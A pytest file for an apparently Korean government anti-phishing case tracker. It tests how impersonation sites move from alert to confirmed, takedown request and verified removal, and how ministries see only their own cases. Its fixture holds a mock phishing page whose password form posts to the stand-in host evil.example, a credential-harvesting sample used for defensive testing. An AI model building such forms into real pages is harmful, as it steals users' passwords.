"""The centre's cases in the web app: an alert recorded as a case with its page's evidence,
taken from new to confirmed, takedown requested (the PDF downloaded) and verified down; a
member ministry's own security staff see only their ministry's cases; others see none."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from insa.cyber import cases
from insa.cyber.assets import load
from insa.cyber.models import CyberCase, CyberCaseEvent
from insa.cyber.pages import Fetched
from insa.cyber.signals import prepare, score
from insa.db.engine import session_scope
from insa.security.context import Ctx
from insa.security.users import create_user

from .conftest import PASSWORD, World, csrf_of

DATA = Path(__file__).resolve().parents[1] / "cyber" / "data"
PAGE = (
    "<html><head><title>사이버국가고시센터</title></head><body><form action='http://evil.example/x'><input type=password name=pw></form>"
    + "시험 원서 접수 안내 " * 40
    + "</body></html>"
)


@pytest.fixture
def case_id(world: World) -> str:
    found = load(DATA / "assets.yaml")
    prep = prepare(found)
    findings = [score(d, prep) for d in ("gosi-kr.com", "kdca.com", "naver.com")]
    page = Fetched("gosi-kr.com", url="http://gosi-kr.com/", status=200, redirects=["http://g0si.kr/"],
                   headers={"server": "nginx"}, html=PAGE, tried=["https://gosi-kr.com/", "http://gosi-kr.com/"])  # fmt: skip
    with session_scope(world.engine) as db:
        assert cases.record(db, findings, found, pages={"gosi-kr.com": page}) == (2, 0)
        assert cases.record(db, findings, found) == (0, 2)  # seen again: no second case
        create_user(Ctx.command_line(db), username="sec-mpm", role="security_operator", password=PASSWORD,
                    agency_code="MPM")  # fmt: skip
        create_user(Ctx.command_line(db), username="sec-moleg", role="security_operator", password=PASSWORD,
                    agency_code="MOLEG")  # fmt: skip
        found_id = db.scalar(select(CyberCase.id).where(CyberCase.domain == "gosi-kr.com"))
    assert found_id
    return str(found_id)


def test_a_case_goes_from_alert_to_verified_takedown(as_user, case_id: str, world: World) -> None:  # type: ignore[no-untyped-def]
    client: TestClient = as_user("sec")
    listing = client.get("/cyber/cases")
    assert (
        listing.status_code == 200 and "gosi-kr.com" in listing.text and "kdca.com" in listing.text
    )
    page = client.get(f"/cyber/cases/{case_id}")
    assert (
        page.status_code == 200
        and "dot-hyphen" in page.text
        and "nginx" not in page.text.split("증거")[0]
    )
    assert "http://g0si.kr/" in page.text  # the redirect chain kept
    token = csrf_of(page.text)
    early = client.post(f"/cyber/cases/{case_id}", data={"action": "takedown", "csrf_token": token})
    assert early.status_code == 422 and "확인한 사건만" in early.text
    assert (
        "사칭으로 확인했습니다"
        in client.post(
            f"/cyber/cases/{case_id}", data={"action": "confirm", "csrf_token": token}
        ).text
    )
    bad = client.post(
        f"/cyber/cases/{case_id}",
        data={"action": "takedown", "registrar_abuse": "nobody", "csrf_token": token},
    )
    assert bad.status_code == 422 and "전자우편" in bad.text
    done = client.post(f"/cyber/cases/{case_id}", data={"action": "takedown", "registrar_abuse": "abuse@registrar.example",
                                                         "csrf_token": token})  # fmt: skip
    assert (
        "차단을 요청했습니다" in done.text
        and "abuse@registrar.example" in done.text
        and "KISA" in done.text
    )
    pdf = client.get(f"/cyber/cases/{case_id}/request.pdf")
    assert (
        pdf.status_code == 200
        and pdf.content.startswith(b"%PDF")
        and pdf.headers["content-type"] == "application/pdf"
    )
    verified = client.post(
        f"/cyber/cases/{case_id}", data={"action": "verify", "csrf_token": token}
    )
    assert (
        "차단을 확인했습니다" in verified.text
    )  # the name does not resolve here: the page is gone
    with session_scope(world.engine) as db:
        c = db.get(CyberCase, case_id)
        assert c is not None and c.status == "verified_down" and c.verified_at is not None
        actions = [e.action for e in db.scalars(select(CyberCaseEvent).where(CyberCaseEvent.case_id == case_id)
                                                .order_by(CyberCaseEvent.id))]  # fmt: skip
    assert actions == ["detected", "confirmed", "takedown_requested", "verified_down"]
    months = client.get("/cyber/cases")
    assert 'data-testid="months"' in months.text


def test_member_staff_see_their_ministrys_cases_only(as_user, case_id: str) -> None:  # type: ignore[no-untyped-def]
    mpm: TestClient = as_user("sec-mpm")
    assert (
        "gosi-kr.com" in mpm.get("/cyber/cases").text
        and "kdca.com" not in mpm.get("/cyber/cases").text
    )
    assert mpm.get(f"/cyber/cases/{case_id}").status_code == 200
    assert as_user("sec-moleg").get(f"/cyber/cases/{case_id}").status_code == 404
    assert as_user("hr-a").get("/cyber/cases").status_code == 403


def test_a_false_positive_needs_its_reason(as_user, case_id: str) -> None:  # type: ignore[no-untyped-def]
    client: TestClient = as_user("sec")
    token = csrf_of(client.get(f"/cyber/cases/{case_id}").text)
    assert (
        client.post(
            f"/cyber/cases/{case_id}", data={"action": "dismiss", "csrf_token": token}
        ).status_code
        == 422
    )
    ok = client.post(
        f"/cyber/cases/{case_id}",
        data={"action": "dismiss", "note": "학원 누리집", "csrf_token": token},
    )
    assert "오탐으로 처리했습니다" in ok.text


def test_abuse_contacts_come_from_pasted_registration_data(
    as_user, case_id: str, world: World
) -> None:  # type: ignore[no-untyped-def]
    client: TestClient = as_user("sec")
    token = csrf_of(client.get(f"/cyber/cases/{case_id}").text)
    reg = DATA / "registration"
    bad = client.post(f"/cyber/cases/{case_id}", data={"action": "contacts", "registration": "{oops",
                                                        "csrf_token": token})  # fmt: skip
    assert bad.status_code == 422 and "RDAP JSON을 읽지 못했습니다" in bad.text
    for name in ("domain-rdap.json", "ip-rdap.json"):
        r = client.post(f"/cyber/cases/{case_id}", data={"action": "contacts", "csrf_token": token,
                        "registration": (reg / name).read_text(encoding="utf-8")})  # fmt: skip
        assert r.status_code == 200 and "신고 창구를 채웠습니다" in r.text
    client.post(f"/cyber/cases/{case_id}", data={"action": "confirm", "csrf_token": token})
    done = client.post(f"/cyber/cases/{case_id}", data={"action": "takedown", "csrf_token": token})
    assert "abuse@namecheap.com, abuse@cloudflare.com" in done.text  # the request's addressees
    assert 'href="mailto:abuse@namecheap.com,abuse@cloudflare.com?subject=' in done.text
    with session_scope(world.engine) as db:
        c = db.get(CyberCase, case_id)
        assert c is not None and (c.registrar, c.hosting) == ("NameCheap, Inc.", "Cloudflare, Inc.")
    assert "NameCheap, Inc." in done.text  # in the mail text and the KISA fields


def test_the_official_page_is_shown_beside_the_case(
    as_user, case_id: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    import json

    from insa.cyber.pages import fingerprint

    store = tmp_path / "prints" / "fingerprints.json"
    (store.parent / "official").mkdir(parents=True)
    (store.parent / "official" / "gosi-0.png").write_bytes(b"\x89PNG official")
    fp = fingerprint("https://www.gosi.kr/", PAGE)
    fp.shot = "official/gosi-0.png"
    store.write_text(json.dumps({"assets": {"gosi": [fp.as_dict()]}}), encoding="utf-8")
    monkeypatch.setattr("insa.cyber.cli.fingerprints_path", lambda given: store)
    client: TestClient = as_user("sec")
    page = client.get(f"/cyber/cases/{case_id}")
    assert 'src="/cyber/official/gosi/0.png"' in page.text
    shot = client.get("/cyber/official/gosi/0.png")
    assert shot.status_code == 200 and shot.content == b"\x89PNG official"
    assert client.get("/cyber/official/gosi/1.png").status_code == 404
    assert client.get("/cyber/official/hometax/0.png").status_code == 404
    assert as_user("hr-a").get("/cyber/official/gosi/0.png").status_code == 404
